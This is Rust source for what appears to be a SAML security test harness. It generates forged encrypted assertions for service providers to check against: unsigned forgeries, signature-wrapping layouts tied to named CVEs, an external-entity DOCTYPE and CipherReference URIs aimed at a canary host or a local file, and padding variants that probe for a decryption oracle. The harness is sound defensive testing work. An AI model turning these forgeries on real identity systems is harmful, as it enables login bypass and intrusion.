//! Encrypted assertions. Anyone can encrypt to the SP's published certificate, so encryption
//! proves nothing about who wrote the plaintext: an unsigned forgery inside EncryptedAssertion,
//! a stale or misdirected token hidden by encryption, RSA PKCS#1 v1.5 key transport, a DOCTYPE
//! in the plaintext, a ciphertext named by a CipherReference on the canary, a signed
//! assertion hidden beside a forged plaintext one, a forged encrypted one beside the signed
//! original, and undecryptable variants whose answers must not tell them apart (an oracle).

use saml_protocol::xmlenc::{self, KeyTransport, XENC_NS};

use saml_protocol::{ASSERTION_NS, BASE64_TRANSFORM, DSIG_NS, PROTOCOL_NS};

use crate::bytes::{child, declares_own_namespace, escape, insert, splice, Doc};
use crate::check::Variant;
use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
use crate::forge::{Forge, Forged, LocalFile, Skip};

/// `xml` with its (first) Assertion replaced by an EncryptedAssertion of `plaintext(assertion)`
/// for the SP's certificate, and the Response's own signature (made over the plaintext, so
/// broken now) removed: what is left is signed, if at all, inside the encryption, as Entra's
/// default "Sign SAML assertion" does.
pub(crate) fn encrypted(
    f: &Forge,
    xml: &str,
    transport: KeyTransport,
    plaintext: &dyn Fn(&str) -> String,
) -> Result<String, Skip> {
    let cert = f.sp_certificate()?;
    let doc = Doc::parse_built(xml)?;
    let assertion = doc.assertion()?;
    if !declares_own_namespace(doc.src, assertion) {
        return Err(Skip::NotApplicable(
            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
        ));
    }
    let sealed = xmlenc::encrypted_assertion(&plaintext(doc.outer(assertion)), cert, transport)
        .map_err(cannot_encrypt)?;
    Ok(in_place_of(&doc, assertion, sealed))
}

/// `doc` with `assertion` replaced by `sealed` (an EncryptedAssertion) and the Response's own
/// signature removed.
fn in_place_of(doc: &Doc, assertion: roxmltree::Node, sealed: String) -> String {
    let mut edits = vec![(assertion.range(), sealed)];
    if let Some(response_signature) = crate::bytes::signature_of(doc.root()) {
        edits.push((response_signature.range(), String::new()));
    }
    splice(doc.src, edits)
}

/// ENC-03: the IdP's own response, its Assertion (or the EncryptedAssertion an encrypting
/// IdP sent) replaced by EncryptedAssertions to the SP (AES-256-CBC, RSA-OAEP) that fail at
/// different stages: an empty `saml:Assertion` with a last byte of 32 (no padding length;
/// a decryptor that strips it unchecked is left 48 bytes that are not well-formed), cut
/// before its `/>` (well padded, not well-formed), whole (well-formed, refused as an
/// assertion), and, when the seed's Assertion is plain, that Assertion with one character of
/// its SignatureValue changed (well-formed and whole, its signature fails: what a real
/// attack's parsable guesses look like). A careful SP answers them alike; one that tells any
/// two apart (a plaintext that parses from one that does not, a bad padding from either) is
/// a decryption oracle.
pub fn decryption_oracle(f: &Forge) -> Result<Vec<Variant>, Skip> {
    let cert = f.sp_certificate()?;
    let doc = Doc::parse_built(f.seed)?;
    let replaced = doc
        .root()
        .descendants()
        .find(|n| {
            n.has_tag_name((ASSERTION_NS, "Assertion"))
                || n.has_tag_name((ASSERTION_NS, "EncryptedAssertion"))
        })
        .ok_or_else(|| Skip::NotApplicable("the seed has no Assertion to replace".into()))?;
    let cut = format!("<saml:Assertion xmlns:saml=\"{ASSERTION_NS}\"");
    let empty = format!("{cut}/>");
    let mut bad_padding = xmlenc::padded(empty.as_bytes());
    if let Some(length) = bad_padding.last_mut() {
        *length = 32;
    }
    let mut blocks = vec![
        ("a bad CBC padding", bad_padding),
        (
            "a plaintext that is not well-formed",
            xmlenc::padded(cut.as_bytes()),
        ),
        ("an empty Assertion", xmlenc::padded(empty.as_bytes())),
    ];
    if replaced.has_tag_name((ASSERTION_NS, "Assertion"))
        && declares_own_namespace(doc.src, replaced)
    {
        blocks.push((
            "the IdP's Assertion, its signature broken",
            xmlenc::padded(signature_broken(&doc, replaced).as_bytes()),
        ));
    }
    blocks
        .into_iter()
        .map(|(what, blocks)| {
            let sealed = xmlenc::seal_blocks(&blocks, cert, KeyTransport::RsaOaep)
                .map_err(cannot_encrypt)?;
            let element = xmlenc::encrypted_assertion_of(&sealed, KeyTransport::RsaOaep);
            Ok(Variant {
                what,
                xml: in_place_of(&doc, replaced, element),
            })
        })
        .collect()
}

/// `assertion`'s bytes with the first base64 character of its SignatureValue swapped for
/// another (unchanged when it has none: then it is unsigned, which fails as well).
fn signature_broken(doc: &Doc, assertion: roxmltree::Node) -> String {
    let outer = doc.outer(assertion).to_owned();
    let Some(value) = crate::bytes::signature_of(assertion)
        .and_then(|s| {
            s.descendants()
                .find(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))
        })
        .and_then(|v| v.first_child())
        .filter(|t| t.is_text())
    else {
        return outer;
    };
    let start = value.range().start - assertion.range().start;
    let mut broken = outer;
    if let Some((at, c)) = broken[start..]
        .char_indices()
        .find(|(_, c)| c.is_ascii_alphanumeric())
    {
        let other = if c == 'A' { "B" } else { "A" };
        broken.replace_range(start + at..start + at + 1, other);
    }
    broken
}

fn cannot_encrypt(e: impl std::fmt::Display) -> Skip {
    Skip::Failed(format!("cannot encrypt to the SP certificate: {e}"))
}

/// The IdP's own response, its Assertion encrypted to the SP (RSA-OAEP, AES-256-CBC): the
/// control every encrypted-assertion check needs the SP to accept.
pub fn genuine(f: &Forge) -> Result<Forged, Skip> {
    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| a.to_owned())?;
    Ok(Forged::same_identity(xml))
}

/// The identity forged, every signature removed, the Assertion encrypted to the SP
/// (GHES CVE-2024-4985 class: a decrypted assertion taken as authenticated).
pub fn unsigned_forgery(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    let xml = encrypted(f, &strip_signatures(&whole)?, KeyTransport::RsaOaep, &|a| {
        a.to_owned()
    })?;
    crate::family::forged(xml, swap)
}

/// A token the IdP signed two hours ago (expired), encrypted to the SP.
pub fn expired(f: &Forge) -> Result<Forged, Skip> {
    let stale = token::expired(f)?;
    let xml = encrypted(f, &stale.xml, KeyTransport::RsaOaep, &|a| a.to_owned())?;
    Ok(Forged::same_identity(xml))
}

/// A token the IdP signed for another SP (Audience), encrypted to this one.
pub fn other_audience(f: &Forge) -> Result<Forged, Skip> {
    let misdirected = token::other_audience(f)?;
    let xml = encrypted(f, &misdirected.xml, KeyTransport::RsaOaep, &|a| {
        a.to_owned()
    })?;
    Ok(Forged::same_identity(xml))
}

/// The IdP's own assertion, its content key sent with RSA PKCS#1 v1.5.
pub fn rsa_1_5(f: &Forge) -> Result<Forged, Skip> {
    let xml = encrypted(f, f.seed, KeyTransport::Rsa15, &|a| a.to_owned())?;
    Ok(Forged::same_identity(xml))
}

/// The IdP's own assertion encrypted with a DOCTYPE in front whose external parameter entity
/// is on the canary: a decryptor that parses the plaintext as a document of its own fetches it.
pub fn doctype_in_plaintext(f: &Forge) -> Result<Forged, Skip> {
    let canary = &f.canary()?.prefix;
    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| {
        format!("<!DOCTYPE Assertion [<!ENTITY % probe SYSTEM \"{canary}/decrypted\">%probe;]>{a}")
    })?;
    Ok(Forged::same_identity(xml))
}

/// Which ciphertext of an EncryptedAssertion a CipherReference replaces.
#[derive(Clone, Copy)]
enum Ciphertext {
    /// The encrypted Assertion (EncryptedData's CipherData).
    Content,
    /// The wrapped content key (EncryptedKey's CipherData).
    Key,
}

/// The IdP's own assertion encrypted to the SP, EncryptedData's ciphertext not inline but
/// named by an `xenc:CipherReference` on the canary: a decryptor that dereferences it fetches
/// whatever a message names, before any signature is checked.
pub fn cipher_reference_data(f: &Forge) -> Result<Forged, Skip> {
    let uri = format!("{}/cipher-data", f.canary()?.prefix);
    let (xml, _) = cipher_referenced(f, Ciphertext::Content, &uri, "")?;
    Ok(Forged::same_identity(xml))
}

/// As [`cipher_reference_data`], the EncryptedKey's wrapped key named by the CipherReference
/// (a decryptor may restrict the outer context only: `xmlsec1 --enabled-cipher-reference-uris`).
pub fn cipher_reference_key(f: &Forge) -> Result<Forged, Skip> {
    let uri = format!("{}/cipher-key", f.canary()?.prefix);
    let (xml, _) = cipher_referenced(f, Ciphertext::Key, &uri, "")?;
    Ok(Forged::same_identity(xml))
}

/// As [`cipher_reference_data`], the ciphertext (base64, named with a base64 Transform) in the
/// check's local file on the harness's machine, named by a `file://` URI: a decryptor without
/// HTTP (libxmlsec1 built without it, the default since 1.2.40 and 1.3.5, and PyPI's xmlsec
/// wheels) still reads files, and signs the user in only if it read and decrypted that one.
pub fn cipher_reference_file(f: &Forge) -> Result<Forged, Skip> {
    in_local_file(f, Ciphertext::Content)
}

/// As [`cipher_reference_file`], the EncryptedKey's wrapped key in the local file: a
/// decryptor that restricts the EncryptedData's context only (`xmlsec1
/// --enabled-cipher-reference-uris` on a build without HTTP) passes the other three checks
/// and still reads it.
pub fn cipher_reference_key_file(f: &Forge) -> Result<Forged, Skip> {
    in_local_file(f, Ciphertext::Key)
}

/// The IdP's own assertion encrypted to the SP, `which` ciphertext (base64, under a base64
/// Transform) in the check's local file, named by a `file://` CipherReference.
fn in_local_file(f: &Forge, which: Ciphertext) -> Result<Forged, Skip> {
    let uri = f.canary()?.file_url();
    let base64 = format!(
        "<xenc:Transforms><ds:Transform xmlns:ds=\"{DSIG_NS}\" Algorithm=\"{BASE64_TRANSFORM}\"/></xenc:Transforms>"
    );
    let (xml, ciphertext) = cipher_referenced(f, which, &uri, &base64)?;
    Ok(Forged {
        local_file: Some(LocalFile::Holding(ciphertext)),
        ..Forged::same_identity(xml)
    })
}

/// The IdP's own assertion encrypted to the SP, `which` ciphertext's CipherValue replaced by a
/// CipherReference to `uri` holding `transforms`; with the base64 CipherValue it replaced.
fn cipher_referenced(
    f: &Forge,
    which: Ciphertext,
    uri: &str,
    transforms: &str,
) -> Result<(String, String), Skip> {
    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| a.to_owned())?;
    let doc = Doc::parse_built(&xml)?;
    let name = match which {
        Ciphertext::Content => "EncryptedData",
        Ciphertext::Key => "EncryptedKey",
    };
    let cipher_data = doc
        .root()
        .descendants()
        .find(|n| n.has_tag_name((XENC_NS, name)))
        .and_then(|holder| child(holder, XENC_NS, "CipherData"))
        .ok_or_else(|| {
            Skip::Failed(format!(
                "the encrypted assertion built has no {name}/CipherData"
            ))
        })?;
    let value = child(cipher_data, XENC_NS, "CipherValue")
        .and_then(|v| v.text())
        .ok_or_else(|| {
            Skip::Failed(format!(
                "the encrypted assertion built has no {name} CipherValue"
            ))
        })?
        .to_owned();
    let reference = format!(
        "<xenc:CipherData><xenc:CipherReference URI=\"{}\">{transforms}</xenc:CipherReference></xenc:CipherData>",
        escape(uri)
    );
    Ok((
        splice(doc.src, vec![(cipher_data.range(), reference)]),
        value,
    ))
}

/// The signed Assertion encrypted, and a forged unsigned copy (new ID) in plaintext before
/// it (GHES CVE-2024-9487: the decrypted assertion's signature checked, the plaintext read).
pub fn wrapped(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
    if !declares_own_namespace(doc.src, p.assertion) {
        return Err(Skip::NotApplicable(
            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
        ));
    }
    let sealed = xmlenc::encrypted_assertion(
        doc.outer(p.assertion),
        f.sp_certificate()?,
        KeyTransport::RsaOaep,
    )
    .map_err(cannot_encrypt)?;
    let edits = vec![(p.assertion.range(), format!("{evil}{sealed}"))];
    crate::family::forged(p.splice_unsigned_response(edits), swap)
}

/// A forged unsigned Assertion (new ID) encrypted to the SP in place of the IdP's, whose
/// signed Assertion follows it in plaintext: the signature that verifies is not on the
/// assertion read (Keycloak CVE-2026-2092: a decrypted assertion counted as signed when any
/// signature in the document verified).
pub fn unsigned_beside_signed(f: &Forge) -> Result<Forged, Skip> {
    sealed_forgery(f, &|p, sealed| {
        vec![(
            p.assertion.range(),
            format!("{sealed}{}", p.doc.outer(p.assertion)),
        )]
    })
}

/// As [`unsigned_beside_signed`], the IdP's signed Assertion moved into `samlp:Extensions`
/// after the Response's Issuer, so the encrypted one is the only Assertion child.
pub fn unsigned_with_signed_in_extensions(f: &Forge) -> Result<Forged, Skip> {
    sealed_forgery(f, &|p, sealed| {
        vec![
            insert(
                p.after_response_header(),
                format!(
                    "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
                    p.doc.outer(p.assertion)
                ),
            ),
            (p.assertion.range(), sealed),
        ]
    })
}

/// The seed's signed Assertion forged (target identity, new ID, unsigned) and encrypted to
/// the SP; `place` puts that EncryptedAssertion and the signed original in the Response.
fn sealed_forgery(
    f: &Forge,
    place: &dyn Fn(&Parts, String) -> crate::bytes::Edits,
) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    if !declares_own_namespace(doc.src, p.assertion) {
        return Err(Skip::NotApplicable(
            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
        ));
    }
    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
    let sealed = xmlenc::encrypted_assertion(&evil, f.sp_certificate()?, KeyTransport::RsaOaep)
        .map_err(cannot_encrypt)?;
    crate::family::forged(p.splice_unsigned_response(place(&p, sealed)), swap)
}
